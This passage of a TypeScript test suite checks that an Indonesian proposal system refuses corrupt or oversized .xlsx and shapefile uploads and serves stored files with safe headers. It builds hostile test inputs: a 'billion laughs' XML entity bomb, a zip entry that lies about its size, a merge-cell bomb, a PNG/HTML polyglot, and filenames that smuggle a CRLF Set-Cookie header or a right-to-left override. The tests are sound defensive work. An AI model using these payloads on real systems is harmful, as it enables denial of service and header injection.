  upload(importRoute, await importRoute.target(), { name: 'usulan.xlsx', content });
const refusedImport = (texts: string[]) => ({ status: 400, message: REFUSAL_MESSAGES.xlsx, texts });
const UNREADABLE = 'File tidak dapat dibaca sebagai .xlsx. Gunakan template dari tombol Download Template.';
const TOO_MANY_ROWS = `Maksimal ${MAX_IMPORT_ROWS.toLocaleString('id-ID')} baris per file. Bagi file menjadi beberapa bagian.`;
const TOO_LARGE = `Isi file .xlsx melebihi ${IMPORT_FILE_LIMITS.maxUncompressedBytes / MB} MB setelah diekstrak. Bagi file menjadi beberapa bagian.`;

/** A generated file, read back. */
async function generatedFile(name: string, write: (target: string) => Promise<void>) {
  const target = path.join(generated, name);
  await write(target);
  return readFileSync(target);
}

async function* spaces(bytes: number) {
  const chunk = ' '.repeat(MB);
  for (let left = bytes; left > 0; left -= MB) yield left >= MB ? chunk : chunk.slice(0, left);
}

describe('corrupt and huge workbooks', () => {
  let usulanSheet: string;
  beforeAll(async () => {
    usulanSheet = await sheetPath(goodWorkbook, 'Usulan');
  });

  it.each([
    {
      label: 'cut in half',
      texts: [UNREADABLE],
      file: async () => goodWorkbook.subarray(0, goodWorkbook.length / 2),
    },
    {
      label: 'a sheet that is no XML',
      texts: [UNREADABLE],
      file: () =>
        generatedFile('no-xml.xlsx', (target) =>
          rezip(goodWorkbook, { [usulanSheet]: '<<< bukan xml' }, target),
        ),
    },
    {
      label: 'entities in workbook.xml (a billion laughs)',
      texts: [UNREADABLE],
      file: async () => {
        const zip = await JSZip.loadAsync(goodWorkbook);
        const workbookXml = (await zip.file('xl/workbook.xml')!.async('string'))
          .replace(
            '<workbook ',
            '<!DOCTYPE workbook [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><workbook ',
          )
          .replace('name="Petunjuk"', 'name="&c;"');
        return generatedFile('laughs.xlsx', (target) =>
          rezip(goodWorkbook, { 'xl/workbook.xml': workbookXml }, target),
        );
      },
    },
    {
      label: 'a sheet that inflates to more than it declares',
      texts: [UNREADABLE],
      file: async () => {
        const grown = await generatedFile('liar-source.xlsx', (target) =>
          workbookWithRows(goodWorkbook, 'Usulan', 5000, target),
        );
        const zip = await JSZip.loadAsync(grown);
        const repacked = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
        return lieAboutSize(repacked, usulanSheet, 1000);
      },
    },
    {
      label: `${IMPORT_FILE_LIMITS.maxUncompressedBytes / MB + 1} MB of XML in a small file, declared honestly`,
      texts: [TOO_LARGE],
      file: () =>
        generatedFile('spaces.xlsx', (target) =>
          rezip(
            goodWorkbook,
            { 'xl/lampiran.xml': spaces(IMPORT_FILE_LIMITS.maxUncompressedBytes + MB) },
            target,
          ),
        ),
    },
    {
      label: `${(MAX_IMPORT_ROWS + 1).toLocaleString('id-ID')} rows, one over the cap`,
      texts: [TOO_MANY_ROWS],
      file: () =>
        generatedFile('over-cap.xlsx', (target) =>
          workbookWithRows(goodWorkbook, 'Usulan', MAX_IMPORT_ROWS + 1, target, { references: true }),
        ),
    },
  ])('refuses a workbook $label, writing nothing', async ({ file, texts }) => {
    const content = await file();
    await expectRefused(() => importWorkbook(content), refusedImport(texts));
  });

  it('counts the cap right: a sheet of exactly 20,000 rows passes the scan', async () => {
    const atCap = path.join(generated, 'at-cap.xlsx');
    await workbookWithRows(goodWorkbook, 'Usulan', MAX_IMPORT_ROWS, atCap, { references: true });
    const limits = {
      maxEntries: IMPORT_FILE_LIMITS.maxEntries,
      maxUncompressedBytes: IMPORT_FILE_LIMITS.maxUncompressedBytes,
      isCountedSheet: (name: string) => name === 'Usulan',
      maxValuedRows: MAX_IMPORT_ROWS + 1,
    };
    expect(await scanWorkbook(atCap, limits)).toBe('ok');
  });

  it(`refuses ${HUGE_ROWS.toLocaleString('id-ID')} rows for their number, quickly, without loading them`, async () => {
    const huge = path.join(generated, 'huge.xlsx');
    const started = performance.now();
    await workbookWithRows(variedWorkbook, 'Usulan', HUGE_ROWS, huge);
    const generatedMs = performance.now() - started;
    const upload = readFileSync(huge);
    const rssBefore = process.memoryUsage().rss;
    let rssPeak = rssBefore;
    const sampler = setInterval(() => {
      rssPeak = Math.max(rssPeak, process.memoryUsage().rss);
    }, 5);
    const refusedAt = performance.now();
    try {
      await expectRefused(() => importWorkbook(upload), refusedImport([TOO_MANY_ROWS]));
    } finally {
      clearInterval(sampler);
    }
    const refusalMs = performance.now() - refusedAt;
    const grownMb = (rssPeak - rssBefore) / MB;
    console.info(
      `${HUGE_ROWS} rows: a ${(upload.length / MB).toFixed(1)} MB file generated in ${Math.round(generatedMs)} ms, ` +
        `refused in ${Math.round(refusalMs)} ms; RSS ${Math.round(rssBefore / MB)} MB before, ${grownMb.toFixed(0)} MB more at most`,
    );
    // exceljs would take minutes and gigabytes over it; the scan reads 20,001 rows and stops.
    expect(refusalMs).toBeLessThan(15_000);
    expect(grownMb).toBeLessThan(64);
  });

  /** The template with one merged range over the rest of the Usulan sheet: 12 kB, 17 billion cells to exceljs. */
  async function mergeBomb() {
    const zip = await JSZip.loadAsync(goodWorkbook);
    const sheet = (await zip.file(usulanSheet)!.async('string')).replace(
      '</sheetData>',
      '</sheetData><mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>',
    );
    return generatedFile('merge-bomb.xlsx', (target) =>
      rezip(goodWorkbook, { [usulanSheet]: sheet }, target),
    );
  }

  it('refuses a workbook that exhausts the parsing thread (one merged range over the sheet), and keeps serving', async () => {
    const bomb = await mergeBomb();
    await expectRefused(() => importWorkbook(bomb), refusedImport([WORKER_LIMIT_MESSAGE]));
    const good = await importWorkbook(goodWorkbook);
    expect(good.statusCode, good.body).toBe(200);
    expect(good.json().data).toEqual({ imported: 1 });
  });

  it('stops a parse at its deadline', async () => {
    await mergeBomb();
    const started = performance.now();
    const stopped = runInWorker(
      new URL('../src/modules/proposal/proposal-import-cells.ts', import.meta.url),
      'readImportCells',
      [
        path.join(generated, 'merge-bomb.xlsx'),
        { sheetName: 'Usulan', guideSheetName: 'Petunjuk', guideCell: 'B2', columns: 9 },
      ],
      { memoryMb: IMPORT_FILE_LIMITS.worker.memoryMb, timeoutMs: 500 },
    );
    await expect(stopped).rejects.toBeInstanceOf(WorkerLimitError);
    await expect(stopped).rejects.toMatchObject({ limit: 'time', message: WORKER_LIMIT_MESSAGE });
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

// ---------------------------------------------------------------------------------------------------------
// Broken shapefiles: each refused with one clear reason, nothing stored

describe('broken shapefiles', () => {
  const features = () =>
    SAMPLE_FEATURES.map((feature) => ({
      parts: feature.lines.map((line) => line.map(lonLatToUtm49s)),
      attributes: completedWorkAttributes(feature),
    }));
  /** A shapefile zip of SAMPLE_FEATURES in UTM 49S, with its .shp (or .dbf, .prj) as given. */
  const layerZip = (parts: { shp?: Buffer; dbf?: Buffer; prj?: string; omitDbf?: boolean }) => {
    const files = writeLineShapefile(features());
    return zipEntries([
      { name: 'jalan.shp', content: parts.shp ?? files.shp },
      { name: 'jalan.shx', content: files.shx },
      ...(parts.omitDbf ? [] : [{ name: 'jalan.dbf', content: parts.dbf ?? files.dbf }]),
      { name: 'jalan.prj', content: parts.prj ?? UTM49S_PRJ },
    ]);
  };
  const patched = (buffer: Buffer, patch: (copy: Buffer) => void) => {
    const copy = Buffer.from(buffer);
    patch(copy);
    return copy;
  };
  const good = () => writeLineShapefile(features());
  // The first record: its header (8 bytes) after the file's (100), then shape type, box, counts, parts, points.
  const FIRST_RECORD = 100 + 8;
  const FIRST_X = FIRST_RECORD + 44 + 4;
  const NAMES = [
    'Paket Tunjungan Kertajaya - Jalan Tunjungan',
    'Paket Tunjungan Kertajaya - Jalan Kertajaya',
    'Paket Darmo - Jalan Raya Darmo',
  ];

  it.each([
    {
      label: 'a .shp whose header is not a shapefile’s',
      zip: () => layerZip({ shp: patched(good().shp, (shp) => shp.writeInt32BE(1234, 0)) }),
      reasons: ['Berkas .shp bukan shapefile yang valid (header tidak dikenali).'],
    },
    {
      label: 'a .shp shorter than its header',
      zip: () => layerZip({ shp: good().shp.subarray(0, 60) }),
      reasons: ['Berkas .shp bukan shapefile yang valid (header tidak dikenali).'],
    },
    {
      label: 'a .shp cut inside its second record',
      zip: () => layerZip({ shp: good().shp.subarray(0, good().shp.length - 30) }),
      reasons: [
        `Berkas .shp terpotong: header mencatat ${good().shp.length.toLocaleString('id-ID')} byte, isinya ${(good().shp.length - 30).toLocaleString('id-ID')} byte.`,
      ],
    },
    {
      label: 'a layer of points',
      zip: () => layerZip({ shp: patched(good().shp, (shp) => shp.writeInt32LE(1, 32)) }),
      reasons: ['Shapefile berisi geometri Point, bukan garis (PolyLine).'],
    },
    {
      label: 'a record claiming two billion points',
      zip: () =>
        layerZip({ shp: patched(good().shp, (shp) => shp.writeInt32LE(0x7fffffff, FIRST_RECORD + 40)) }),
      reasons: ['Shapefile rusak: fitur ke-1 tidak dapat dibaca.'],
    },
    {
      label: 'a record of negative length',
      zip: () => layerZip({ shp: patched(good().shp, (shp) => shp.writeInt32LE(-5, FIRST_RECORD + 36)) }),
      reasons: ['Shapefile rusak: fitur ke-1 tidak dapat dibaca.'],
    },
    {
      label: 'a NaN coordinate',
      zip: () => layerZip({ shp: patched(good().shp, (shp) => shp.writeDoubleLE(Number.NaN, FIRST_X)) }),
      reasons: [`Fitur ke-1 (${NAMES[0]}): koordinat bukan angka.`],
    },
    {
      label: 'an infinite coordinate',
      zip: () =>
        layerZip({ shp: patched(good().shp, (shp) => shp.writeDoubleLE(Number.POSITIVE_INFINITY, FIRST_X)) }),
      reasons: [`Fitur ke-1 (${NAMES[0]}): koordinat bukan angka.`],
    },
    {
      label: 'a .shp without its .dbf',
      zip: () => layerZip({ omitDbf: true }),
      reasons: ['Berkas .dbf untuk jalan.shp tidak ditemukan di dalam zip.'],
    },
    {
      label: 'a .dbf cut short',
      zip: () => layerZip({ dbf: good().dbf.subarray(0, 40) }),
      reasons: ['Berkas .dbf rusak atau terpotong.'],
    },
    {
      label: 'degrees under a UTM .prj (the wrong projection)',
      zip: () =>
        zipEntries([
          ...Object.entries(
            writeLineShapefile(
              SAMPLE_FEATURES.map((feature) => ({
                parts: feature.lines,
                attributes: completedWorkAttributes(feature),
              })),
            ),
          ).map(([ext, content]) => ({ name: `jalan.${ext}`, content })),
          { name: 'jalan.prj', content: UTM49S_PRJ },
        ]),
      reasons: [
        `Fitur ke-1 (${NAMES[0]}): koordinat (112,74; -7,26) tampak dalam derajat, padahal sistem koordinatnya dalam meter (periksa berkas .prj).`,
        `Fitur ke-2 (${NAMES[1]}): koordinat (112,76; -7,28) tampak dalam derajat, padahal sistem koordinatnya dalam meter (periksa berkas .prj).`,
        `Fitur ke-3 (${NAMES[2]}): koordinat (112,74; -7,29) tampak dalam derajat, padahal sistem koordinatnya dalam meter (periksa berkas .prj).`,
      ],
    },
    {
      label: 'metres under a WGS84 .prj (the wrong projection)',
      zip: () =>
        layerZip({
          prj: 'GEOGCS["GCS_WGS_1984",DATUM["D_WGS_1984",SPHEROID["WGS_1984",6378137.0,298.257223563]],PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]]',
        }),
      reasons: NAMES.map((name, index) =>
        expect.stringMatching(
          new RegExp(`^Fitur ke-${index + 1} \\(${name}\\): koordinat di luar jangkauan`),
        ),
      ),
    },
  ])('refuses $label', async ({ zip, reasons }) => {
    const content = await zip();
    await expectRefused(() => importZip(content), refusedZip(reasons as string[]));
  });
});

// ---------------------------------------------------------------------------------------------------------
// Served files: never run as a page, never named so the header breaks

describe('served files', () => {
  const media = (url: string, query = '') =>
    t.app.inject({ method: 'GET', url: `${url}${query}`, headers: headersOf.admin });

  function expectSafeHeaders(response: Reply, contentType: string, disposition: 'inline' | 'attachment') {
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(contentType);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
    expect(response.headers['content-security-policy']).toContain("frame-ancestors 'none'");
    // A personal document never stays in a cache, the browser's included.
    expect(response.headers['cache-control']).toBe('private, no-store');
    const header = String(response.headers['content-disposition']);
    expect(header).toMatch(
      new RegExp(`^${disposition}; filename="[\\x20-\\x7e]*"; filename\\*=UTF-8''[\\w%.!~*'()-]*$`),
    );
    expect(header).not.toMatch(/[\r\n]/);
    expect(response.headers['set-cookie']).toBeUndefined();
    return header;
  }

  it('serves an upload that is an image to a sniffer but HTML after it as image/png, nosniff, sandboxed', async () => {
    const polyglot = Buffer.concat([PNG, HTML_PAGE]);
    const route = ROUTES[0]!;
    const response = await upload(route, await route.target(), { name: 'foto.png', content: polyglot });
    expect(response.statusCode, response.body).toBe(201);
    const [file] = response.json().data.proposalFiles as { link: string }[];
    const served = await media(file!.link);
    expectSafeHeaders(served, 'image/png', 'inline');
    expect(served.rawPayload.equals(polyglot)).toBe(true);
    expectSafeHeaders(await media(file!.link, '?download=1'), 'image/png', 'attachment');
  });

  it('serves survey photos and videos with the same headers', async () => {
    for (const kind of ['photo', 'video'] as const) {
      const route = ROUTES.find((candidate) => candidate.name === `POST survey/{id}/${kind}`)!;
      const response = await upload(route, await route.target(), await acceptedFile(route.kind));
      expect(response.statusCode, response.body).toBe(201);
      const survey = response.json().data as {
        surveyPhotos: { link: string }[];
        surveyVideos: { link: string }[];
      };
      const link = (kind === 'photo' ? survey.surveyPhotos : survey.surveyVideos)[0]!.link;
      expectSafeHeaders(await media(link), kind === 'photo' ? 'image/png' : 'video/mp4', 'inline');
    }
  });

  /** A stored file with a name and type as any writer of the table might have left them. */
  async function storedFile(name: string, mimeType: string) {
    const proposalId = await newProposal('verified');
    const storageKey = `proposals/${proposalId}/${randomUUID()}.bin`;
    mkdirSync(path.join(t.config.DATA_DIR, 'files', 'proposals', String(proposalId)), { recursive: true });
    writeFileSync(path.join(t.config.DATA_DIR, 'files', storageKey), HTML_PAGE);
    const [row] = await t.db
      .insert(proposalFiles)
      .values({
        proposalId,
        kind: 'proposal',
        name,
        ext: 'bin',
        mimeType,
        size: HTML_PAGE.length,
        storageKey,
      })
      .returning({ id: proposalFiles.id });
    return `/api-web/media/proposal-file/${row!.id}`;
  }

  it.each([
    { label: 'an HTML page', name: 'halaman.html', mimeType: 'text/html' },
    { label: 'an SVG', name: 'gambar.svg', mimeType: 'image/svg+xml' },
    { label: 'XHTML', name: 'halaman.xhtml', mimeType: 'application/xhtml+xml' },
    { label: 'an unknown type', name: 'berkas.bin', mimeType: 'application/octet-stream' },
  ])('offers $label only as a download', async ({ name, mimeType }) => {
    expectSafeHeaders(await media(await storedFile(name, mimeType)), mimeType, 'attachment');
  });

  it.each([
    {
      label: 'a header break and a cookie',
      name: 'foto.png"\r\nSet-Cookie: sesi=curian\r\nX-Evil: 1',
      ascii: 'foto.pngSet-Cookie: sesi=curianX-Evil: 1',
    },
    { label: 'quotes and a backslash', name: 'a"b\\c.png', ascii: 'abc.png' },
    { label: 'a right-to-left override', name: 'foto\u202egnp.exe', ascii: 'fotognp.exe' },
    // The database keeps text as UTF-8: half an emoji comes back as U+FFFD, and must still not break anything.
    { label: 'a lone surrogate', name: 'foto\ud83d.png', ascii: 'foto_.png', shown: 'foto\ufffd.png' },
    {
      label: 'Indonesian text',
      name: 'Jalan Raya Darmo – retak ✓.png',
      ascii: 'Jalan Raya Darmo _ retak _.png',
    },
  ])('names a stored file with $label without breaking the header', async ({ name, ascii, shown }) => {
    const header = expectSafeHeaders(await media(await storedFile(name, 'image/png')), 'image/png', 'inline');
    expect(header).toContain(`filename="${ascii}"`);
    const encoded = /filename\*=UTF-8''(.*)$/.exec(header)![1]!;
    expect(decodeURIComponent(encoded)).toBe((shown ?? name).replace(/[\p{Cc}\p{Cf}"\\]/gu, ''));
  });
});
